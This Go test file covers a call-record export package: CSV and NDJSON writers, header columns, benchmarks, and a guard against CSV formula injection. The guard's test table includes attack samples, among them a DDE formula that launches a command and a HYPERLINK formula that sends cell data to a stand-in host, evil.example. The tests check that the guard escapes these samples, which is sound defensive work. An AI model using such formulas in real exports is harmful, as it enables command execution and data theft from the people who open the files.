package export

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/cdrhub/cdrhub/internal/cdr"
	"github.com/google/go-cmp/cmp"
)

// The writers' output is byte for byte that of the writers of
// cmd/cdrhub/export.go they replaced: testdata/records.csv and
// records-keep.csv were written by those from testdata/records.ndjson
// (test records of every channel, formulas in every text column, quotes,
// commas, line breaks, tabs, empty list elements, non-ASCII text), with
// --csv-formulas escape and keep.
func TestOutputUnchanged(t *testing.T) {
	in, err := os.ReadFile("testdata/records.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		new  func(io.Writer) Writer
		want string // file
	}{
		{"ndjson", NewNDJSON, "testdata/records.ndjson"},
		{"csv", func(w io.Writer) Writer { return NewCSV(w, true) }, "testdata/records.csv"},
		{"csv keep", func(w io.Writer) Writer { return NewCSV(w, false) }, "testdata/records-keep.csv"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want, err := os.ReadFile(tt.want)
			if err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			bw := bufio.NewWriter(&out) // as the command's output
			w := tt.new(bw)
			sc := bufio.NewScanner(bytes.NewReader(in))
			for sc.Scan() {
				if err := w.Write(sc.Bytes()); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			bw.Flush()
			if diff := cmp.Diff(string(want), out.String()); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}

			// No record: nothing, not even a CSV header.
			out.Reset()
			if err := tt.new(&out).Close(); err != nil || out.Len() != 0 {
				t.Errorf("no record: %q, %v", out.String(), err)
			}
		})
	}
}

// failWriter fails every write.
type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk gone") }

func TestWriteErrors(t *testing.T) {
	rec := []byte(`{"id":"rec_x","start_at":1700000000000}`)
	for name, w := range map[string]Writer{"ndjson": NewNDJSON(failWriter{}), "csv": NewCSV(failWriter{}, true)} {
		err := w.Write(rec)
		if err == nil {
			err = w.Close()
		}
		if err == nil || err.Error() != "disk gone" {
			t.Errorf("%s: %v, want the output's error", name, err)
		}
	}
	err := NewCSV(io.Discard, true).Write([]byte(`{"start_at":"yesterday"}`))
	if err == nil || !strings.HasPrefix(err.Error(), "decoding a record") {
		t.Errorf("a record that does not decode: %v", err)
	}
}

func TestCSVRow(t *testing.T) {
	i64 := func(v int64) *int64 { return &v }
	score := 5
	r := &cdr.Record{
		ID: "rec_x", Tenant: "acme", Channel: cdr.ChannelVoice, Source: cdr.SourceNative, SourceID: "s1", Version: 7,
		StartAt: 1700000000123, AnswerAt: i64(1700000001000), EndAt: i64(1700000061000),
		Direction: cdr.DirectionInbound, CallType: cdr.CallTypeDirect, Media: cdr.MediaAudio,
		Disposition: cdr.DispositionAnswered, DispositionRaw: "ANSWERED", HangupBy: cdr.HangupByAgent,
		Caller: cdr.Party{Address: "+86 139 1234 5678"}, Callee: cdr.Party{Address: "4001"},
		Agents: []cdr.Agent{{ID: "a1", Name: "Zhang Min"}, {Name: "Bot"}},
		Queues: []cdr.Queue{{ID: "q1", Name: "Sales"}},
		TalkS:  i64(60), TotalS: i64(61), RingS: i64(0), QueueS: i64(3), IVRS: i64(4), HoldS: i64(5),
		Satisfaction: &cdr.Satisfaction{Score: &score, Label: "great"},
		Recordings:   []cdr.Recording{{URL: "https://x"}},
		Tags:         []string{"vip", "a;b"}, CountryCode: "CN", Note: "said \"hi\",\nthen left",
	}
	want := []string{
		"rec_x", "acme", "voice", "native", "s1", "7", "2023-11-14T22:13:20.123Z", "2023-11-14T22:13:21.000Z", "2023-11-14T22:14:21.000Z",
		"inbound", "direct", "audio", "answered", "ANSWERED", "agent", "+86 139 1234 5678", "4001",
		"a1;", "Zhang Min;Bot", "q1", "Sales", "60", "61", "0", "3", "4", "5", "5", "great", "true", "vip;a;b",
		"CN", "said \"hi\",\nthen left",
	}
	if len(want) != len(columns) {
		t.Fatalf("%d values for %d columns", len(want), len(columns))
	}
	cells := func(r row) []string {
		var out []string
		for _, c := range columns {
			out = append(out, string(c.cell(nil, &r, time.UTC)))
		}
		return out
	}
	if diff := cmp.Diff(want, cells(rowOf(r))); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	empty := cells(rowOf(&cdr.Record{ID: "rec_y", StartAt: 1700000000000}))
	for i, col := range Header() {
		if v := empty[i]; v != "" && col != "id" && col != "version" && col != "start_at" && col != "has_recording" {
			t.Errorf("%s of an empty record: %q", col, v)
		}
	}
}

func TestHeader(t *testing.T) {
	want := []string{
		"id", "tenant", "channel", "source", "source_id", "version", "start_at", "answer_at", "end_at",
		"direction", "call_type", "media", "disposition", "disposition_raw", "hangup_by", "caller", "callee",
		"agent_ids", "agent_names", "queue_ids", "queue_names", "talk_s", "total_s", "ring_s", "queue_s",
		"ivr_s", "hold_s", "satisfaction_score", "satisfaction_label", "has_recording", "tags",
		"country_code", "note",
	}
	if diff := cmp.Diff(want, Header()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	Header()[0] = "changed"
	if Header()[0] != "id" {
		t.Error("Header returned the table's own names")
	}
}

func TestEscapeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"Zhang Min", "Zhang Min"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"},
		{"'=1", "'=1"},
		{"=1+1", "'=1+1"},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`=HYPERLINK("http://evil.example/?d="&A1,"x")`, `'=HYPERLINK("http://evil.example/?d="&A1,"x")`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "\n=1"},
		{"=", "'="},
		{"@", "'@"},
		// + and - pass when number-like: ^[+-][0-9][0-9 ().*-]*$
		{"+86 139 1234 5678", "+86 139 1234 5678"},
		{"+8613912345678", "+8613912345678"},
		{"+86 (20) 6666-8888", "+86 (20) 6666-8888"},
		{"+86139****5678", "+86139****5678"},
		{"-1", "-1"},
		{"-1.5", "-1.5"},
		{"+0", "+0"},
		{"+", "'+"},
		{"-", "'-"},
		{"--", "'--"},
		{"+ 86 139", "'+ 86 139"},
		{"+(86) 139", "'+(86) 139"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"+SUM(1,2)", "'+SUM(1,2)"},
		{"-1+1", "'-1+1"},
		{"+1/2", "'+1/2"},
		{"+86 139 1234 5678,A1", "'+86 139 1234 5678,A1"},
		{"-A1", "'-A1"},
		{"+1e5", "'+1e5"},
		{"+1\t", "'+1\t"},
		{"1+1", "1+1"},
		{"4008208820", "4008208820"},
	}
	for _, tt := range tests {
		if got := escapeFormula(tt.in); got != tt.want {
			t.Errorf("escapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Ordinary cells pass without an allocation: the guard costs a CSV export
// a byte comparison per cell.
func TestEscapeFormulaAllocs(t *testing.T) {
	cells := []string{"rec_abcdefghijklmnopqrstuvwx", "+86 139 1234 5678", "-1", "2023-11-14T22:13:20.123Z", "Zhang Min;Bot", ""}
	if n := testing.AllocsPerRun(100, func() {
		for _, c := range cells {
			escapeFormula(c)
		}
	}); n != 0 {
		t.Errorf("%v allocations per row of ordinary cells", n)
	}
}

// benchRecord is the i-th record of the benchmarks: the records of
// cmd/cdrhub's import and export tests (testRecord there).
func benchRecord(prefix string, i int) string {
	ch := []string{"voice", "rtc", "chat"}[i%3]
	extra := ""
	switch ch {
	case "voice":
		extra = fmt.Sprintf(`,"caller":{"address":"+86 139 %04d %04d"},"answer_at":%d,"end_at":%d,"disposition":"answered"`,
			i/10000, i%10000, 1700000000000+int64(i)*1000+5000, 1700000000000+int64(i)*1000+65000)
	case "rtc":
		extra = fmt.Sprintf(`,"caller":{"address":"user-%d"},"disposition":"no_answer"`, i)
	}
	if i%4 == 0 {
		extra += fmt.Sprintf(`,"agents":[{"id":"agent-%d","name":"Agent, \"%d\""}],"tags":["t%d","vip"]`, i%7, i%7, i%2)
	}
	if i%5 == 0 {
		extra += `,"satisfaction":{"score":4,"label":"good"}`
	}
	return fmt.Sprintf(`{"channel":%q,"source":"native","source_id":"%s-%d","start_at":%d%s}`,
		ch, prefix, i, 1700000000000+int64(i)*1000, extra)
}

func BenchmarkCSVWrite(b *testing.B) {
	for _, escape := range []bool{false, true} {
		b.Run(fmt.Sprintf("escape=%v", escape), func(b *testing.B) {
			recs := make([][]byte, 1000)
			for i := range recs {
				recs[i] = []byte(benchRecord("b", i))
			}
			w := NewCSV(io.Discard, escape)
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				if err := w.Write(recs[i%len(recs)]); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkEscapeFormula is the guard's share of BenchmarkCSVWrite: one
// row of ordinary cells.
func BenchmarkEscapeFormula(b *testing.B) {
	var d decoder
	var r row
	if err := decodeRow(&d, []byte(benchRecord("b", 4)), &r, selectAll()); err != nil {
		b.Fatal(err)
	}
	cells := make([]string, len(columns))
	for i, c := range columns {
		cells[i] = string(c.cell(nil, &r, time.UTC))
	}
	b.ReportAllocs()
	for b.Loop() {
		for i, v := range cells {
			cells[i] = escapeFormula(v)
		}
	}
}
